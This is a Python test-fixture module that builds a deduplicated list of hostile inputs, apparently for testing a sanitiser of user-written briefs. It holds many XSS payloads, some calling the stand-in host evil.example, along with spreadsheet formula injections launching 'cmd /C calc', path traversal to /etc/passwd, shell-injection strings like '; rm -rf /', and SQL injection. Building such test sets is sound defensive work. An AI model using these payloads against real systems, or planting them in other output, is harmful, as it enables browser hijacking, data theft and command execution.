"""What somebody may write into a brief who wants a reader's browser to run it, to ask another host, or to show another page.

Whatever runs calls `alert`; whatever asks goes to `evil.example`. Written for this test, from what browsers are known to accept.
"""
CALLS = "alert(1)", "alert`1`", "top.alert(1)", "&#97;lert(1)", "\\u0061lert(1)"
EVENTS = ("onload onerror onclick onfocus onmouseover onanimationstart ontoggle onbegin onpageshow onhashchange onpointerenter "
          "onscroll oncopy onwheel onbeforetoggle oncontentvisibilityautostatechange").split()
ELEMENTS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe src=x", "object data=x",
            "marquee", "select autofocus", "style", "math", "p tabindex=1 autofocus", "a href=# autofocus", "form action=#")
SCHEMES = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)",
           "\x01javascript:alert(1)", "javascript&#58;alert(1)", "&#106;avascript:alert(1)",
           "&#x6A;&#x61;vascript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "javascript&#x3A;alert(1)",
           "javascript%3Aalert(1)", "javascript://%0aalert(1)", "vbscript:alert(1)", "data:text/html,<script>alert(1)</script>",
           "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:text/html,<svg onload=alert(1)>", "ｊavascript:alert(1)",
           "jаvascript:alert(1)", "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "blob:https://evil.example/x",
           "file:///etc/passwd", "//evil.example/x", "https:evil.example")
# What a build takes for addresses within the site, where nothing is.
NOWHERE = ("\\\\evil.example\\x", "/\\evil.example/x", "javascript&amp;colon;alert(1)", "../../../../etc/passwd", "%2e%2e/%2e%2e/x", "x.html")
SCRIPTS = ("<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT >", "<script src=//evil.example/x.js></script>",
           "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\n>alert(1)</script\n>",
           "</script><script>alert(1)</script>", "<script type=module>alert(1)</script>", "<script>alert(1)//",
           "<<script>alert(1)//<</script>", "<ſcript>alert(1)</ſcript>", "＜script＞alert(1)＜/script＞",
           "<script xlink:href=//evil.example/x></script>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
           "<template><script>alert(1)</script></template>", "<textarea></textarea><script>alert(1)</script>",
           "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>",
           "</noscript><img src=x onerror=alert(1)>", "</template><img src=x onerror=alert(1)>", "<plaintext>", "<xmp><img src=x onerror=alert(1)>",
           "<script>document.write('<img src=//evil.example/w>')</script>", "<script>fetch('//evil.example/f')</script>")
MARKUP = ("<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>", "<!--", "-->", "--!>", "<![CDATA[<img src=x onerror=alert(1)>]]>",
          "]]><img src=x onerror=alert(1)>", "<?xml version=1?><img src=x onerror=alert(1)>", "<?php alert(1) ?>", "<!DOCTYPE html [<!ENTITY x 'alert(1)'>]>&x;",
          "<img src=x onerror=alert(1)", "<img src=\"x` `<script>alert(1)</script>\"` `>", "<img \"\"\"><script>alert(1)</script>\">",
          "<img/src=x/onerror=alert(1)>", "<img\x0csrc=x\x0conerror=alert(1)>", "<a href=\"//a.example\"onmouseover=\"alert(1)\" style=position:fixed;inset:0>x</a>",
          "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>", "`><img src=x onerror=alert(1)>", "\" autofocus onfocus=alert(1) x=\"",
          "' autofocus onfocus=alert(1) x='", "\" onload=alert(1) \"", "x\" onerror=\"alert(1)", "&lt;img src=x onerror=alert(1)&gt;",
          "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&quot;&gt;&lt;svg onload=alert(1)&gt;",
          "<meta http-equiv=refresh content=0;url=//evil.example/>", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
          "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example/x>",
          "<link rel=import href=//evil.example/x>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>top.alert(1)</script>\"></iframe>",
          "<iframe src=//evil.example/></iframe>", "<embed src=//evil.example/x.swf>", "<object data=javascript:alert(1)></object>",
          "<object data=//evil.example/x type=text/html></object>", "<applet code=x></applet>", "<portal src=//evil.example/></portal>",
          "<fencedframe></fencedframe>", "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>",
          "<isindex action=javascript:alert(1) type=image>", "<input type=image src=//evil.example/i>", "<video poster=//evil.example/p></video>",
          "<video><source src=//evil.example/v onerror=alert(1)></video>", "<img srcset=\"//evil.example/s 1x\">", "<picture><source srcset=//evil.example/s><img></picture>",
          "<body background=//evil.example/b>", "<table background=//evil.example/t><tr><td>x</table>", "<img src=//evil.example/i>", "<a ping=//evil.example/ping href=#>x</a>",
          "<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>", "<slot onslotchange=alert(1)>x</slot>")
FOREIGN = ("<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) /></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
           "<svg><set attributeName=href to=javascript:alert(1)></svg>", "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
           "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x\"></use></svg>",
           "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>", "<svg><image href=//evil.example/i></image></svg>",
           "<svg><style>@import '//evil.example/x.css';</style></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
           "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">", "<math href=javascript:alert(1)>x</math>",
           "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>", "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
           "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
           "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>alert(1)</html:script>", "<image href=//evil.example/i xmlns='http://www.w3.org/2000/svg'/>")
STYLE = ("<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example/b)}</style>", "<p style=\"background:url(//evil.example/b)\">x</p>",
         "<p style=\"animation-name:x\" onanimationstart=alert(1)>x</p>", "<style>@font-face{font-family:x;src:url(//evil.example/f)}*{font-family:x}</style>",
         "<p style=\"position:fixed;inset:0;background:red\">x</p>", "<style>body{display:none}</style>", "}</style><style>*{background:url(//evil.example/c)}", "expression(alert(1))")
TEMPLATE = ("{{title}}", "{{{title}}}", "{{&title}}", "{{#items}}x{{/items}}", "{{>top}}", "{{! x }}", "{{=<% %>=}}<%title%>", "{{", "}}", "{{{", "}}}", "{{/x}}",
            "{{^x}}<script>alert(1)</script>{{/x}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{% raw %}<script>alert(1)</script>{% endraw %}", "[[${7*7}]]", "{{constructor.constructor('alert(1)')()}}")
MARKDOWN = ("[x](<javascript:alert(1)>)", "![x](https://evil.example/i.png)", "![x](//evil.example/i.png \"onerror=alert(1)\")", "![\" onerror=alert(1) x=\"](https://a.example/)", "[x](https://a.example/ \"\\\" onclick=alert(1) x=\\\"\")",
            "<javascript:alert(1)>", "<https://evil.example/\"onmouseover=alert(1)>", "[x]: javascript:alert(1) \"x\"", "`<script>alert(1)</script>`", "```html <script>alert(1)</script> ```",
            "[<img src=x onerror=alert(1)>](x://y)", "**<script>alert(1)</script>**", "\\<script>alert(1)\\</script>", "| <script>alert(1)</script> |", "[x](https://evil.example/' onclick=alert(1) ')",
            "[x](https://evil.example/?a=\"><script>alert(1)</script>)", "[x](http://a/%22%3E%3Cscript%3Ealert(1)%3C/script%3E)", "http://evil.example/<script>alert(1)</script>")
FORMULAS = ("=1+1", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/\",\"x\")", "\t=1+1", "=IMPORTXML(\"http://evil.example/\",\"//x\")",
            ";=1+1", ",=1+1", "\",=1+1,\"", "=DDE(\"cmd\";\"/C calc\";\"x\")")
STRANGE = ("../../x", "..\\..\\x", "con", "NUL", "aux.txt", "%2e%2e%2fx", "." * 300, "a" * 300, "ж" * 300, "\u202etxt.exe\u202c", "\u200f\u200eא\u200f", "👩\u200d👩\u200d👧\u200d👦", "🇺🇦", "Кyіv", "Zеlеnskуу",
           "\ufeffx", "\u2028alert(1)\u2029", "\u00ad", "\u0000x", "İstanbul ıI", "ﷺ", "Z" + "\u0300" * 200, "\ufffe", "\U000e0041", "..", ".", "/", "\\", "|", "~", "$HOME", "`id`", "$(id)", "; rm -rf /", "%n%s%x",
           "' OR 1=1 --", "\"; alert(1); \"", "'; alert(1); '", "\\\"; alert(1); //", "\\'; alert(1); //", "*/ alert(1) /*", "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>")


def payloads():
    """Several hundred texts, no two alike."""
    events = [f"<{element} {event}={CALLS[place % len(CALLS)]}>x" for place, (element, event) in enumerate(
        (element, EVENTS[(row + column) % len(EVENTS)]) for row, element in enumerate(ELEMENTS) for column in range(4))]
    links = [f"<a href=\"{scheme}\">x</a>" for scheme in SCHEMES] + [f"[x]({scheme})" for scheme in SCHEMES] + list(SCHEMES)
    texts = [*SCRIPTS, *events, *links, *MARKUP, *FOREIGN, *STYLE, *TEMPLATE, *MARKDOWN, *FORMULAS, *STRANGE]
    assert len(set(texts)) == len(texts)
    return texts
